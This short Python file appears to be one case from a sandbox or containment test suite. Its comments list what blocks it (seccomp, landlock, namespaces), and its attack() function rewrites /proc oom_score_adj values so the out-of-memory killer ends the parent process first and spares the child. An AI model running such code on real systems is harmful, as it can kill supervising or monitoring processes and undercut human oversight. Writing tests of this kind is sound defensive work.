"""Makes the process it was forked from the first to be ended when memory runs out, and itself the last."""
# stopped by: seccomp, landlock, namespaces
# at D: skip

import os


def attack():
    for pid, score in ((os.getppid(), 1000), (os.getpid(), -1000)):
        with open(f"/proc/{pid}/oom_score_adj", "w") as file:
            file.write(str(score))
    return "the parent goes first"
